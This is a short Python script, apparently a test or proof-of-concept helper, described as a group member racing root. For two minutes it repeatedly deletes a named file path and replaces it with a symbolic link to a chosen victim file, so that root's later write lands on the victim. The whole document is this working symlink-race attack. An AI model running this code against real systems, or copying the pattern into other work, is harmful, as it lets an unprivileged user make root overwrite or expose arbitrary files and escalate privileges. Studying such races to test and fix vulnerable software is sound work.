#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A member of the group who races root: whenever root makes FILE, put a link to VICTIM in its place.

usage: plant.py FILE VICTIM

Runs until it is killed, two minutes at most."""
import os
import signal
import sys

signal.alarm(120)
file, victim = sys.argv[1:]
while True:
    try:
        if not os.path.islink(file):
            os.unlink(file)
            os.symlink(victim, file)
    except OSError:
        pass
